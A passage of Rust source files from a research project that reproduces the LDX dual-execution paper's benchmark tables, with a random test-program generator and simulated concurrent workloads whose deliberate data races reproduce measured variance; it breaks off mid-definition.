            jobs.push(BatchJob::new(
                format!("{}#{run}", w.name),
                program.clone(),
                w.world.clone(),
                spec.clone(),
            ));
        }
    }
    let batch = engine.run(jobs);

    for (w, chunk) in workloads.iter().zip(batch.results.chunks(runs)) {
        let diffs: Vec<f64> = chunk
            .iter()
            .map(|r| r.report.syscall_diffs as f64)
            .collect();
        let sinks: Vec<f64> = chunk
            .iter()
            .map(|r| r.report.tainted_sinks() as f64)
            .collect();
        let fmt = |xs: &[f64]| {
            let min = xs.iter().cloned().fold(f64::INFINITY, f64::min);
            let max = xs.iter().cloned().fold(f64::NEG_INFINITY, f64::max);
            format!("{:.0} / {:.0} / {:.2}", min, max, stddev(xs))
        };
        println!(
            "{:<10} {:>28} {:>28}   (mean diffs {:.1}, mean sinks {:.1})",
            w.name,
            fmt(&diffs),
            fmt(&sinks),
            mean(&diffs),
            mean(&sinks),
        );
    }
    println!(
        "\nexpected shape: nonzero σ on syscall diffs for racy programs; \
         tainted-sink σ near 0 except where a racy statistic feeds the sink \
         (mtget/mtenc, mirroring the paper's axel/x264)."
    );
    summary.phase("run", phase_start.elapsed());
    finish_summary(&summary);
    if let Err(e) = ldx::obs::finish(&obs_args) {
        eprintln!("could not write observability output: {e}");
    }
}
