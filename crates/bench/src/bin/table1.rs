//! Regenerates paper **Table 1**: benchmarks and instrumentation.
//!
//! Columns mirror the paper: program, LOC, instrumented instructions
//! (count + percent), instrumented loops / recursive call sites / indirect
//! (fptr) call sites, sinks, syscall sites, max static counter, dynamic
//! counter (avg/max) and counter-stack depth from a run, plus the
//! barrier-crossing totals (count and wall-clock) the alignment-stall
//! profiler agrees with, the number of mutated inputs (sources), and the
//! source pairs the `ldx-sdep` pre-filter proves inert (pruned, counted
//! over declared plus statically discovered sources).
//!
//! Rows run on the batch engine's pool; the instrumentation cache compiles
//! each source once and feeds both the static report and the dynamic run.
//!
//! Run: `cargo run -p ldx-bench --bin table1 [--trace t.json] [--metrics m.json]`

use ldx::{BatchEngine, InstrumentCache};
use ldx_bench::{finish_summary, run_native_timed, BenchSummary};

fn main() {
    let (args, obs_args) = ldx::obs::parse_obs_args(std::env::args().skip(1).collect());
    ldx::obs::init(&obs_args);
    let (_args, mut summary) = BenchSummary::from_args("table1", args);
    // The barrier columns need hot-path timing regardless of the flags.
    ldx::obs::enable_profiling();
    println!(
        "{:<10} {:>5} {:>7} {:>7} {:>6} {:>6} {:>5} {:>6} {:>5} {:>8} {:>9} {:>6} {:>5} {:>6} {:>8} {:>7} {:>6}",
        "program",
        "loc",
        "instrs",
        "added%",
        "loops",
        "recur",
        "fptr",
        "sinks",
        "sys",
        "max-cnt",
        "dyn-avg",
        "dyn-max",
        "stack",
        "barr",
        "barr-ms",
        "sources",
        "pruned"
    );
    let engine = BatchEngine::auto();
    let cache = InstrumentCache::new();
    let phase_start = std::time::Instant::now();
    let rows = engine.map_ordered(ldx_workloads::corpus(), |w| {
        let compiled = cache.instrumented(&w.source).expect("workload compiles");
        let report = compiled.instrumented.report().clone();
        let (_, out) = run_native_timed(&compiled.program, &w.world);
        let stats = out.map(|o| o.stats).unwrap_or_default();
        let orig = report.total_original_instrs();
        let added = report.total_added_instrs();
        let sdep = ldx::sdep::StaticAnalysis::analyze(&compiled.program);
        let mut probe_sources = w.sources.clone();
        for d in sdep.discovered_sources() {
            if !probe_sources.iter().any(|s| s.matcher == d.matcher) {
                probe_sources.push(d);
            }
        }
        let pruned = probe_sources
            .iter()
            .filter(|s| !sdep.may_cause(s, &w.sinks))
            .count();
        ldx::obs::counter_add("sdep.pruned_pairs", pruned as u64);
        let line = format!(
            "{:<10} {:>5} {:>7} {:>6.2}% {:>6} {:>6} {:>5} {:>6} {:>5} {:>8} {:>9.2} {:>6} {:>5} {:>6} {:>8.2} {:>7} {:>6}",
            w.name,
            w.loc(),
            orig,
            report.instrumented_fraction() * 100.0,
            report.total_loops(),
            report.total_recursive_sites(),
            report.total_indirect_sites(),
            report.total_sinks(),
            report.total_syscall_sites(),
            report.max_cnt,
            stats.cnt_avg(),
            stats.cnt_max,
            stats.max_counter_depth,
            stats.barrier_waits,
            stats.barrier_wait_ns as f64 / 1e6,
            w.sources.len(),
            pruned,
        );
        (line, orig, added)
    });
    summary.phase("rows", phase_start.elapsed());

    let mut total_orig = 0usize;
    let mut total_added = 0usize;
    for (line, orig, added) in &rows {
        total_orig += orig;
        total_added += added;
        println!("{line}");
    }
    let frac = total_added as f64 / (total_orig + total_added).max(1) as f64;
    println!(
        "\naverage instrumented fraction: {:.2}% (paper reports 3.44% for its suite)",
        frac * 100.0
    );
    finish_summary(&summary);
    if let Err(e) = ldx::obs::finish(&obs_args) {
        eprintln!("could not write observability output: {e}");
    }
}
