//! Criterion counterpart of Figure 6: execution-model overhead on three
//! representative workloads (compute-heavy, compression, syscall-heavy
//! server), measuring native single execution, LDX dual execution
//! (identity and mutated), the taint trackers, and the EI-DualEx baseline.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use ldx_baselines::ei_dual_execute;
use ldx_bench::scaled_world;
use ldx_dualex::{dual_execute, DualSpec, Mutation, SourceSpec};
use ldx_runtime::{run_program, ExecConfig, NativeHooks};
use ldx_taint::{taint_execute, TaintPolicy};
use ldx_vos::Vos;
use std::hint::black_box;
use std::sync::Arc;

fn identity_spec(w: &ldx_workloads::Workload) -> DualSpec {
    DualSpec {
        sources: w
            .sources
            .iter()
            .map(|s| SourceSpec {
                matcher: s.matcher.clone(),
                mutation: Mutation::Identity,
            })
            .collect(),
        sinks: w.sinks.clone(),
        trace: false,
        record: false,
        enforcement: false,
        exec: ExecConfig::default(),
    }
}

fn bench_models(c: &mut Criterion) {
    for name in ["minzip", "minhmm", "minhttpd"] {
        let w = ldx_workloads::by_name(name).expect("workload exists");
        let world = scaled_world(&w).expect("perf workload");
        let plain = w.program_uninstrumented();
        let instrumented = w.program();

        let mut group = c.benchmark_group(format!("models/{name}"));
        group.sample_size(10);

        group.bench_function(BenchmarkId::from_parameter("native"), |b| {
            b.iter(|| {
                let vos = Arc::new(Vos::new(&world));
                let hooks = Arc::new(NativeHooks::new(vos));
                black_box(run_program(Arc::clone(&plain), hooks, ExecConfig::default()).unwrap())
            })
        });

        let ident = identity_spec(&w);
        group.bench_function(BenchmarkId::from_parameter("ldx-same"), |b| {
            b.iter(|| black_box(dual_execute(Arc::clone(&instrumented), &world, &ident)))
        });

        let mutated = w.dual_spec();
        group.bench_function(BenchmarkId::from_parameter("ldx-mutated"), |b| {
            b.iter(|| black_box(dual_execute(Arc::clone(&instrumented), &world, &mutated)))
        });

        group.bench_function(BenchmarkId::from_parameter("libdft"), |b| {
            b.iter(|| {
                black_box(taint_execute(
                    &plain,
                    &world,
                    &w.sources,
                    &w.sinks,
                    TaintPolicy::LibDftLike,
                ))
            })
        });

        group.bench_function(BenchmarkId::from_parameter("taintgrind"), |b| {
            b.iter(|| {
                black_box(taint_execute(
                    &plain,
                    &world,
                    &w.sources,
                    &w.sinks,
                    TaintPolicy::TaintGrindLike,
                ))
            })
        });

        group.bench_function(BenchmarkId::from_parameter("ei-dualex"), |b| {
            b.iter(|| {
                black_box(ei_dual_execute(
                    Arc::clone(&instrumented),
                    &world,
                    &w.sources,
                    &w.sinks,
                    ExecConfig::default(),
                ))
            })
        });

        group.finish();
    }
}

criterion_group!(benches, bench_models);
criterion_main!(benches);
