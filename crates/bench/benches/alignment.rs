//! Microbenchmarks of the alignment machinery itself:
//!
//! * progress-key comparison (the hot operation of the coupling protocol);
//! * the static counter-instrumentation pass (compile-time cost);
//! * interpreter throughput with and without instrumentation — the
//!   "counter maintenance" share of LDX's overhead in isolation.

use criterion::{criterion_group, criterion_main, Criterion};
use ldx_runtime::{run_program, ExecConfig, FrameKey, LoopUid, NativeHooks, ProgressKey};
use ldx_vos::{Vos, VosConfig};
use std::hint::black_box;
use std::sync::Arc;

fn key(depth: usize, loops: usize, cnt: u64) -> ProgressKey {
    ProgressKey {
        frames: (0..depth)
            .map(|d| FrameKey {
                loops: (0..loops)
                    .map(|l| (LoopUid::new(d as u32, l as u32), (l as u64) * 3))
                    .collect(),
                cnt: cnt + d as u64,
            })
            .collect(),
    }
}

fn bench_progress_keys(c: &mut Criterion) {
    let mut group = c.benchmark_group("progress-key");
    let flat_a = key(1, 0, 17);
    let flat_b = key(1, 0, 18);
    group.bench_function("cmp-flat", |b| {
        b.iter(|| black_box(flat_a.cmp_progress(black_box(&flat_b))))
    });
    let deep_a = key(4, 3, 9);
    let deep_b = key(4, 3, 9);
    group.bench_function("cmp-deep-equal", |b| {
        b.iter(|| black_box(deep_a.cmp_progress(black_box(&deep_b))))
    });
    group.bench_function("clone-deep", |b| b.iter(|| black_box(deep_a.clone())));
    group.finish();
}

fn bench_instrumentation_pass(c: &mut Criterion) {
    let sources: Vec<String> = (0..8)
        .map(|seed| {
            ldx_workloads::random_program_source(
                seed,
                &ldx_workloads::GeneratorConfig {
                    max_depth: 4,
                    max_block_len: 6,
                    helpers: 4,
                },
            )
        })
        .collect();
    let lowered: Vec<_> = sources
        .iter()
        .map(|s| ldx_ir::lower(&ldx_lang::compile(s).unwrap()))
        .collect();
    c.bench_function("instrument-pass/8-programs", |b| {
        b.iter(|| {
            for p in &lowered {
                black_box(ldx_instrument::instrument(black_box(p)));
            }
        })
    });
}

fn bench_counter_maintenance(c: &mut Criterion) {
    // A loop-heavy, syscall-bearing program: the instrumented version pays
    // for CntAdd/LoopEnter/LoopBackedge/LoopExit on top of the same work.
    let w = ldx_workloads::by_name("minzip").unwrap();
    let world = ldx_bench::scaled_world(&w).unwrap();
    let plain = w.program_uninstrumented();
    let instrumented = w.program();
    let run = |program: &Arc<ldx_ir::IrProgram>, world: &VosConfig| {
        let vos = Arc::new(Vos::new(world));
        let hooks = Arc::new(NativeHooks::new(vos));
        run_program(Arc::clone(program), hooks, ExecConfig::default()).unwrap()
    };
    let mut group = c.benchmark_group("counter-maintenance");
    group.sample_size(10);
    group.bench_function("uninstrumented", |b| {
        b.iter(|| black_box(run(&plain, &world)))
    });
    group.bench_function("instrumented", |b| {
        b.iter(|| black_box(run(&instrumented, &world)))
    });
    group.finish();
}

criterion_group!(
    benches,
    bench_progress_keys,
    bench_instrumentation_pass,
    bench_counter_maintenance
);
criterion_main!(benches);
