//! A random structured-program generator.
//!
//! Generates syntactically valid Lx programs with nested branches, loops
//! containing syscalls, helper-function calls, and recursion. Used by the
//! property tests (workspace `tests/`) to check the counter-consistency
//! invariant (I1/I2 in DESIGN.md) and the identity-mutation invariant
//! (I5) over thousands of program shapes, and by the stress benches.

use rand::rngs::StdRng;
use rand::{RngExt, SeedableRng};
use std::fmt::Write as _;

/// Knobs for the generator.
#[derive(Debug, Clone, Copy)]
pub struct GeneratorConfig {
    /// Maximum statement-nesting depth.
    pub max_depth: u32,
    /// Statements per block (upper bound).
    pub max_block_len: u32,
    /// Number of helper functions.
    pub helpers: u32,
}

impl Default for GeneratorConfig {
    fn default() -> Self {
        GeneratorConfig {
            max_depth: 3,
            max_block_len: 4,
            helpers: 2,
        }
    }
}

/// Generates a random program from `seed`. The program reads `/gen/input`,
/// branches and loops on its contents, performs file and stderr syscalls
/// along the way, and finishes with an output syscall — so dual execution
/// always has sources and sinks to work with.
pub fn random_program_source(seed: u64, config: &GeneratorConfig) -> String {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut out = String::new();

    for h in 0..config.helpers {
        let _ = writeln!(out, "fn helper{h}(a) {{");
        let body = gen_block(&mut rng, config, 1, true);
        out.push_str(&body);
        let _ = writeln!(out, "    return a + {};", rng.random_range(0..10));
        let _ = writeln!(out, "}}");
    }

    let _ = writeln!(out, "fn main() {{");
    let _ = writeln!(out, "    let fd = open(\"/gen/input\", 0);");
    let _ = writeln!(out, "    let v = int(trim(read(fd, 8)));");
    let _ = writeln!(out, "    let acc = 0;");
    let body = gen_block(&mut rng, config, 1, false);
    out.push_str(&body);
    let _ = writeln!(out, "    close(fd);");
    let _ = writeln!(out, "    let o = open(\"/gen/out\", 1);");
    let _ = writeln!(out, "    write(o, str(acc) + \"/\" + str(v));");
    let _ = writeln!(out, "    close(o);");
    let _ = writeln!(out, "}}");
    out
}

fn indent(depth: u32) -> String {
    "    ".repeat(depth as usize + 1)
}

/// Generates a block of statements. Inside helpers (`in_helper`), the
/// variables are `a`; in main, `v` and `acc`.
fn gen_block(rng: &mut StdRng, config: &GeneratorConfig, depth: u32, in_helper: bool) -> String {
    let mut out = String::new();
    let (var, acc): (&str, &str) = if in_helper { ("a", "a") } else { ("v", "acc") };
    let n = rng.random_range(1..=config.max_block_len);
    for _ in 0..n {
        let choice = if depth >= config.max_depth {
            rng.random_range(0..4)
        } else {
            rng.random_range(0..7)
        };
        let pad = indent(depth);
        match choice {
            0 => {
                let _ = writeln!(
                    out,
                    "{pad}{acc} = {acc} + {var} % {} + {};",
                    rng.random_range(2..9),
                    rng.random_range(0..5)
                );
            }
            1 => {
                let _ = writeln!(out, "{pad}write(2, \"m{}\");", rng.random_range(0..100));
            }
            2 => {
                let _ = writeln!(
                    out,
                    "{pad}{acc} = {acc} + len(str({var} * {}));",
                    rng.random_range(1..50)
                );
            }
            3 => {
                if !in_helper && config.helpers > 0 {
                    let h = rng.random_range(0..config.helpers);
                    let _ = writeln!(out, "{pad}{acc} = {acc} + helper{h}({var});");
                } else {
                    let _ = writeln!(out, "{pad}{acc} = {acc} * 2 + 1;");
                }
            }
            4 => {
                // Branch with possibly asymmetric syscall counts.
                let _ = writeln!(
                    out,
                    "{pad}if ({var} % {} == {}) {{",
                    rng.random_range(2..5),
                    rng.random_range(0..2)
                );
                out.push_str(&gen_block(rng, config, depth + 1, in_helper));
                if rng.random_bool(0.6) {
                    let _ = writeln!(out, "{pad}}} else {{");
                    out.push_str(&gen_block(rng, config, depth + 1, in_helper));
                }
                let _ = writeln!(out, "{pad}}}");
            }
            5 => {
                // Bounded loop with a syscall inside.
                let bound = rng.random_range(1..5);
                let i = format!("i{depth}_{}", rng.random_range(0..1000));
                let _ = writeln!(
                    out,
                    "{pad}for (let {i} = 0; {i} < {bound} + {var} % 3; {i} = {i} + 1) {{"
                );
                let _ = writeln!(out, "{pad}    write(2, \"t\" + str({i}));");
                out.push_str(&gen_block(rng, config, depth + 1, in_helper));
                let _ = writeln!(out, "{pad}}}");
            }
            _ => {
                let _ = writeln!(out, "{pad}{acc} = max({acc}, getpid() % 97);");
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn generated_programs_compile() {
        for seed in 0..60 {
            let src = random_program_source(seed, &GeneratorConfig::default());
            ldx_lang::compile(&src).unwrap_or_else(|e| panic!("seed {seed}: {e}\n{src}"));
        }
    }

    #[test]
    fn generation_is_deterministic() {
        let a = random_program_source(7, &GeneratorConfig::default());
        let b = random_program_source(7, &GeneratorConfig::default());
        assert_eq!(a, b);
    }

    #[test]
    fn different_seeds_differ() {
        let a = random_program_source(1, &GeneratorConfig::default());
        let b = random_program_source(2, &GeneratorConfig::default());
        assert_ne!(a, b);
    }

    #[test]
    fn generated_programs_pretty_print_roundtrip() {
        for seed in 0..40 {
            let src = random_program_source(seed, &GeneratorConfig::default());
            let once = ldx_lang::parse(&src).unwrap();
            let printed = ldx_lang::pretty::to_source(&once);
            let twice = ldx_lang::parse(&printed)
                .unwrap_or_else(|e| panic!("seed {seed}: reparse failed: {e}\n{printed}"));
            assert_eq!(
                ldx_lang::pretty::to_source(&twice),
                printed,
                "seed {seed}: pretty-print not a fixpoint"
            );
        }
    }

    #[test]
    fn generated_programs_instrument_consistently() {
        for seed in 0..40 {
            let src = random_program_source(seed, &GeneratorConfig::default());
            let ip = ldx_instrument::instrument(&ldx_ir::lower(&ldx_lang::compile(&src).unwrap()));
            ldx_instrument::check_counter_consistency(&ip)
                .unwrap_or_else(|e| panic!("seed {seed}: {e}\n{src}"));
        }
    }
}
