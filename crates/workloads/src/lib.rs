//! The benchmark corpus: 28 Lx programs mirroring the paper's Table 1.
//!
//! The paper evaluates on four suites we cannot redistribute — 12
//! SPECINT2006 programs, 5 network/system programs (Firefox, lynx, nginx,
//! tnftp, sysstat), 6 vulnerable programs (gif2png, mp3info, prozilla,
//! yops, ngircd, gcc), and 5 concurrent programs (apache, pbzip2, pigz,
//! axel, x264). Each is replaced by an Lx program that preserves the
//! *property the suite exercises* (see DESIGN.md):
//!
//! * **SPEC-like**: compute-heavy kernels with real control-flow variety
//!   (recursion, indirect dispatch, nested loops) — they measure counter
//!   maintenance overhead;
//! * **net/system**: syscall-heavy programs with secrets — information
//!   leak detection;
//! * **vulnerable**: untrusted-input parsers whose "critical execution
//!   point" (a return-address or allocation-size stand-in) is a site sink
//!   — attack detection;
//! * **concurrent**: multi-threaded programs with locked *and* racy shared
//!   state — schedule sharing and the race-induced variance of Table 4.
//!
//! Every [`Workload`] carries its world ([`ldx_vos::VosConfig`]), its
//! source/sink specification, and — for the paper's Table 2 — a pair of
//! mutations: one expected to leak and one expected to be benign.

mod case_studies;
mod concurrent;
mod figures;
mod generator;
mod netsys;
mod spec_like;
mod vuln;

pub use case_studies::{preprocessor_case_study, showip_case_study};
pub use figures::{figure1_programs, figure2_employee, figure4_loops, FigureCase};
pub use generator::{random_program_source, GeneratorConfig};

use ldx_dualex::{DualSpec, SinkSpec, SourceSpec};
use ldx_ir::IrProgram;
use ldx_vos::VosConfig;
use std::sync::Arc;

/// Which of the paper's four suites a workload belongs to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Suite {
    /// SPECINT2006 stand-ins (12 programs).
    SpecLike,
    /// Network & system programs (5).
    NetSys,
    /// Vulnerable programs for attack detection (6).
    Vulnerable,
    /// Concurrent programs (5).
    Concurrent,
}

impl Suite {
    /// Display name matching the paper's grouping.
    pub fn name(self) -> &'static str {
        match self {
            Suite::SpecLike => "SPEC-like",
            Suite::NetSys => "network/system",
            Suite::Vulnerable => "vulnerable",
            Suite::Concurrent => "concurrent",
        }
    }
}

/// One benchmark program with its experiment configuration.
#[derive(Debug, Clone)]
pub struct Workload {
    /// Short name (the paper-program it stands in for is in `stands_for`).
    pub name: &'static str,
    /// The paper program this replaces.
    pub stands_for: &'static str,
    /// Which suite.
    pub suite: Suite,
    /// The Lx source.
    pub source: String,
    /// The initial world.
    pub world: VosConfig,
    /// The default (leak-expected) sources.
    pub sources: Vec<SourceSpec>,
    /// The sink specification.
    pub sinks: SinkSpec,
    /// A second mutation expected to be *benign* (paper Table 2's "Input
    /// 2"); `None` for numerical programs where every mutation leaks
    /// (the paper's last four rows).
    pub benign_sources: Option<Vec<SourceSpec>>,
    /// Whether the default sources are expected to produce causality.
    pub expect_leak: bool,
}

impl Workload {
    /// Lines of Lx source (the corpus' "LOC" column).
    pub fn loc(&self) -> usize {
        self.source.lines().filter(|l| !l.trim().is_empty()).count()
    }

    /// Compiles and instruments the program.
    ///
    /// # Panics
    ///
    /// Panics if the embedded source fails to compile — a corpus bug, and
    /// covered by tests.
    pub fn instrumented(&self) -> ldx_instrument::InstrumentedProgram {
        let resolved = ldx_lang::compile(&self.source)
            .unwrap_or_else(|e| panic!("workload `{}` does not compile: {e}", self.name));
        ldx_instrument::instrument(&ldx_ir::lower(&resolved))
    }

    /// Compiles and instruments, returning the bare program.
    pub fn program(&self) -> Arc<IrProgram> {
        Arc::new(self.instrumented().into_program())
    }

    /// Compiles without instrumentation (native baseline / taint runs).
    pub fn program_uninstrumented(&self) -> Arc<IrProgram> {
        let resolved = ldx_lang::compile(&self.source)
            .unwrap_or_else(|e| panic!("workload `{}` does not compile: {e}", self.name));
        Arc::new(ldx_ir::lower(&resolved))
    }

    /// The dual-execution spec using the default (leaking) sources.
    pub fn dual_spec(&self) -> DualSpec {
        DualSpec {
            sources: self.sources.clone(),
            sinks: self.sinks.clone(),
            trace: false,
            record: false,
            enforcement: false,
            exec: Default::default(),
        }
    }

    /// The dual-execution spec using the benign mutation, if one exists.
    pub fn benign_spec(&self) -> Option<DualSpec> {
        self.benign_sources.as_ref().map(|sources| DualSpec {
            sources: sources.clone(),
            sinks: self.sinks.clone(),
            trace: false,
            record: false,
            enforcement: false,
            exec: Default::default(),
        })
    }
}

/// The full 28-program corpus, in the paper's Table 1 order.
pub fn corpus() -> Vec<Workload> {
    let mut all = Vec::with_capacity(28);
    all.extend(spec_like::workloads());
    all.extend(netsys::workloads());
    all.extend(vuln::workloads());
    all.extend(concurrent::workloads());
    all
}

/// Workloads of one suite.
pub fn by_suite(suite: Suite) -> Vec<Workload> {
    corpus().into_iter().filter(|w| w.suite == suite).collect()
}

/// Looks a workload up by name.
pub fn by_name(name: &str) -> Option<Workload> {
    corpus().into_iter().find(|w| w.name == name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn corpus_has_28_programs_in_suite_order() {
        let all = corpus();
        assert_eq!(all.len(), 28);
        assert_eq!(by_suite(Suite::SpecLike).len(), 12);
        assert_eq!(by_suite(Suite::NetSys).len(), 5);
        assert_eq!(by_suite(Suite::Vulnerable).len(), 6);
        assert_eq!(by_suite(Suite::Concurrent).len(), 5);
    }

    #[test]
    fn names_are_unique() {
        let all = corpus();
        let mut names: Vec<_> = all.iter().map(|w| w.name).collect();
        names.sort();
        names.dedup();
        assert_eq!(names.len(), all.len());
    }

    #[test]
    fn every_workload_compiles_and_instruments() {
        for w in corpus() {
            let ip = w.instrumented();
            ldx_instrument::check_counter_consistency(&ip)
                .unwrap_or_else(|e| panic!("workload `{}`: {e}", w.name));
        }
    }

    #[test]
    fn every_workload_has_sources_and_positive_loc() {
        for w in corpus() {
            assert!(!w.sources.is_empty(), "{} has no sources", w.name);
            assert!(w.loc() > 10, "{} is trivially small", w.name);
        }
    }

    #[test]
    fn lookup_by_name() {
        assert!(by_name("minzip").is_some());
        assert!(by_name("nope").is_none());
    }
}
