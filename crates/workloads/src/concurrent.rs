//! The 5 concurrent stand-ins (apache, pbzip2, pigz, axel, x264).
//!
//! These exercise the paper's §7 concurrency support: thread pairing,
//! shared lock-grant order, and — deliberately — *unprotected* shared
//! counters whose races produce the run-to-run variance of Table 4 (the
//! paper attributes the x264 and axel variance to exactly such
//! beyond-control statistics).

use crate::{Suite, Workload};
use ldx_dualex::{Mutation, SinkSpec, SourceMatcher, SourceSpec};
use ldx_vos::{PeerBehavior, VosConfig};
use std::collections::BTreeMap;

pub(crate) fn workloads() -> Vec<Workload> {
    vec![mtserve(), mtzip(), mtgzip(), mtget(), mtenc()]
}

/// apache: two workers serving a shared accept queue.
fn mtserve() -> Workload {
    let source = r#"
        global served = 0;
        global hits = 0;

        fn serve_one(conn) {
            let req = trim(recv(conn, 64));
            let path = "/www" + substr(req, 4, 56);
            let fd = open(path, 0);
            if (fd < 0) {
                send(conn, "404");
            } else {
                send(conn, "200 " + read(fd, 256));
                close(fd);
            }
            lock(1);
            served = served + 1;
            unlock(1);
            // Unprotected counter: which worker observes which parity is a
            // genuine race, so this trace write comes and goes per run.
            let h = hits;
            sleep(0);
            hits = h + 1;
            if (h % 2 == 1) {
                write(2, "hit " + str(h) + "\n");
            }
            return 0;
        }

        fn worker(n) {
            for (let i = 0; i < n; i = i + 1) {
                lock(2);
                let conn = accept(80);
                unlock(2);
                if (conn >= 0) {
                    serve_one(conn);
                    close(conn);
                }
            }
            return 0;
        }

        fn main() {
            let t1 = spawn(&worker, 2);
            let t2 = spawn(&worker, 2);
            join(t1);
            join(t2);
            let log = open("/out/access.log", 1);
            write(log, "served " + str(served) + "\n");
            close(log);
        }
    "#;
    Workload {
        name: "mtserve",
        stands_for: "Apache",
        suite: Suite::Concurrent,
        source: source.to_string(),
        world: VosConfig::new()
            .file("/www/a.html", "page a contents")
            .file("/www/b.html", "page b secret contents")
            .listen(
                80,
                vec![
                    "GET /a.html".into(),
                    "GET /b.html".into(),
                    "GET /a.html".into(),
                    "GET /missing".into(),
                ],
            )
            .dir("/out"),
        sources: vec![SourceSpec::file("/www/b.html")],
        sinks: SinkSpec::NetworkOut,
        benign_sources: None,
        expect_leak: true,
    }
}

/// pbzip2: parallel block compression with locked result slots.
fn mtzip() -> Workload {
    let source = r#"
        global blocks = ["", "", "", ""];
        global input = "";

        fn rle(data) {
            let out = "";
            let i = 0;
            while (i < len(data)) {
                let c = data[i];
                let run = 1;
                while (i + run < len(data) && data[i + run] == c) { run = run + 1; }
                out = out + str(run) + c;
                i = i + run;
            }
            return out;
        }

        global racy_done = 0;

        fn compress_block(b) {
            let quarter = len(input) / 4;
            let chunk = substr(input, b * quarter, quarter);
            let z = rle(chunk);
            lock(1);
            blocks[b] = z;
            unlock(1);
            let d = racy_done;
            sleep(0);
            racy_done = d + 1;
            if (d % 2 == 0) {
                write(2, "block " + str(b) + " done\n");
            }
            return 0;
        }

        fn main() {
            let fd = open("/data/big.txt", 0);
            input = read(fd, 2048);
            close(fd);
            let t0 = spawn(&compress_block, 0);
            let t1 = spawn(&compress_block, 1);
            let t2 = spawn(&compress_block, 2);
            let t3 = spawn(&compress_block, 3);
            join(t0); join(t1); join(t2); join(t3);
            let out = open("/out/big.rle", 1);
            for (let b = 0; b < 4; b = b + 1) {
                write(out, blocks[b]);
            }
            close(out);
        }
    "#;
    Workload {
        name: "mtzip",
        stands_for: "Pbzip2",
        suite: Suite::Concurrent,
        source: source.to_string(),
        world: VosConfig::new()
            .file(
                "/data/big.txt",
                "aaaaabbbbbcccccdddddeeeeefffffggggghhhhhiiiiijjjjjkkkkklllll",
            )
            .dir("/out"),
        sources: vec![SourceSpec::file("/data/big.txt")],
        sinks: SinkSpec::FileOut,
        benign_sources: None,
        expect_leak: true,
    }
}

/// pigz: parallel compression with a *racy* throughput statistic that only
/// reaches stderr (syscall variance without sink variance).
fn mtgzip() -> Workload {
    let source = r#"
        global done = ["", ""];
        global racy_progress = 0;

        fn crunch(half) {
            let fd = open("/data/input.bin", 0);
            if (half == 1) { seek(fd, 600); }
            let chunk = read(fd, 600);
            close(fd);
            let out = "";
            for (let i = 0; i < len(chunk); i = i + 1) {
                out = out + chr((ord(chunk, i) + 1) % 128);
                // Unprotected read-modify-write straddling a syscall: a
                // genuine race whose outcome varies run to run.
                let rp = racy_progress;
                if (i % 8 == 0) { sleep(0); }
                racy_progress = rp + 1;
            }
            lock(1);
            done[half] = out;
            unlock(1);
            if (racy_progress % 2 == 1) {
                write(2, "progress " + str(racy_progress) + "\n");
            }
            return 0;
        }

        fn main() {
            let t0 = spawn(&crunch, 0);
            let t1 = spawn(&crunch, 1);
            join(t0); join(t1);
            let out = open("/out/output.gz", 1);
            write(out, done[0] + done[1]);
            close(out);
        }
    "#;
    Workload {
        name: "mtgzip",
        stands_for: "Pigz",
        suite: Suite::Concurrent,
        source: source.to_string(),
        world: VosConfig::new()
            .file("/data/input.bin", {
                let mut data = String::new();
                for i in 0..1200 {
                    data.push(char::from(b'!' + ((i * 31 + 7) % 90) as u8));
                }
                data
            })
            .dir("/out"),
        sources: vec![SourceSpec::file("/data/input.bin")],
        sinks: SinkSpec::FileOut,
        benign_sources: None,
        expect_leak: true,
    }
}

/// axel: multi-connection downloader whose *racy* chunk-arrival counter is
/// written into the sink file — the source of Table 4's tainted-sink
/// variance for axel.
fn mtget() -> Workload {
    let source = r#"
        global parts = ["", ""];
        global arrivals = 0;

        fn fetch(idx) {
            let host = "mirror" + str(idx) + ".example";
            let s = connect(host);
            send(s, "GET part" + str(idx));
            let data = recv(s, 128);
            close(s);
            lock(1);
            parts[idx] = data;
            unlock(1);
            // Unprotected read-modify-write loop: lost updates vary run to
            // run, like axel's connection statistics.
            for (let k = 0; k < 160; k = k + 1) {
                let seen = arrivals;
                if (k % 5 == 0) { sleep(0); }
                arrivals = seen + 1;
            }
            return 0;
        }

        fn main() {
            let t0 = spawn(&fetch, 0);
            let t1 = spawn(&fetch, 1);
            join(t0); join(t1);
            let out = open("/out/download.bin", 1);
            write(out, parts[0] + parts[1]);
            close(out);
            let stats = open("/out/stats.txt", 1);
            write(stats, "connections=" + str(arrivals) + "\n");
            close(stats);
        }
    "#;
    let mut m0 = BTreeMap::new();
    m0.insert(
        "GET part0".to_string(),
        "first-half-of-the-payload".to_string(),
    );
    let mut m1 = BTreeMap::new();
    m1.insert(
        "GET part1".to_string(),
        "second-half-of-the-payload".to_string(),
    );
    Workload {
        name: "mtget",
        stands_for: "Axel",
        suite: Suite::Concurrent,
        source: source.to_string(),
        world: VosConfig::new()
            .peer("mirror0.example", PeerBehavior::Respond(m0))
            .peer("mirror1.example", PeerBehavior::Respond(m1))
            .dir("/out"),
        sources: vec![SourceSpec::net("mirror0.example")],
        sinks: SinkSpec::FileOut,
        benign_sources: None,
        expect_leak: true,
    }
}

/// x264: parallel encoding with a racy bits/sec statistic in the report —
/// the paper's explanation for x264's tainted-sink variance.
fn mtenc() -> Workload {
    let source = r#"
        global encoded = ["", ""];
        global bits = 0;

        fn encode(half) {
            let fd = open("/data/frames.yuv", 0);
            if (half == 1) { seek(fd, 300); }
            let chunk = read(fd, 300);
            close(fd);
            let out = "";
            let prev = 0;
            for (let i = 0; i < len(chunk); i = i + 1) {
                let cur = ord(chunk, i);
                out = out + str(cur - prev) + ".";
                prev = cur;
                // Racy bit counter (no lock!): lost updates vary per run.
                let b = bits;
                if (i % 7 == 0) { sleep(0); }
                bits = b + 8;
            }
            lock(1);
            encoded[half] = out;
            unlock(1);
            return 0;
        }

        fn main() {
            let t0 = spawn(&encode, 0);
            let t1 = spawn(&encode, 1);
            join(t0); join(t1);
            let out = open("/out/stream.264", 1);
            write(out, encoded[0]);
            write(out, encoded[1]);
            close(out);
            let stats = open("/out/rate.txt", 1);
            write(stats, "bits/sec=" + str(bits) + "\n");
            close(stats);
        }
    "#;
    Workload {
        name: "mtenc",
